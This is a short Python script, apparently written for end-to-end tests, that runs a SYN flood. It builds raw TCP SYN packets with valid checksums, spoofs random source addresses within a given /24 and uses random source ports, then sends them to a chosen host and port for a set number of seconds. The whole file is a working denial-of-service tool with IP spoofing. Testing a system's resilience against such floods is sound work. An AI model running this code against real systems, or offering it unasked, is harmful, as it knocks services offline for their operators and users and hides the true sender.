#!/usr/bin/env python3
"""SYN flood for the e2e tests: TCP SYNs with random sources in a /24 and
random source ports to DST:PORT for SECONDS, through a raw socket (valid
checksums). Prints "sent seconds".

usage: synflood.py NET24 DST PORT SECONDS   (NET24 like 203.0.113)
"""
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02,
                      64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main():
    net, dst, port, secs = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setblocking(False)
    daddr = socket.inet_aton(dst)
    t0 = time.monotonic()
    end, sent = t0 + secs, 0
    while time.monotonic() < end:
        for _ in range(200):
            # Sources .100-.254: never the lab's own addresses.
            src = socket.inet_aton("%s.%d" % (net, random.randint(100, 254)))
            try:
                s.sendto(syn(src, daddr, random.randint(1024, 65535), port), (dst, 0))
                sent += 1
            except BlockingIOError:
                pass
    print(sent, time.monotonic() - t0)


main()
